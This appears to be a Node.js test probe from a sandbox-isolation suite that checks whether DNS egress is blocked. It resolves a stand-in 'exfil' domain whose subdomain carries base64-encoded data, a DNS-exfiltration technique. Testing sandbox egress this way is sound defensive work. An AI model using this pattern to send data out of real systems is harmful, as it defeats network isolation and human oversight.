// hostile: egress | a DNS lookup (Node's resolver) through a DNS server on the host's loopback
// expect: exit=73 status=error
// control: docker -network +network=host exit=42
// check: listener
"use strict";
const dns = require("dns");
const { params, verdict } = require("./_probe.js");

const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
resolver.setServers([`127.0.0.1:${params().DNS_PORT}`]);
resolver.resolve4("c2VjcmV0.exfil.sandshim.test", (error, addresses) => {
  verdict(!error, error ? error.code : "resolved to " + addresses.join(" "));
});
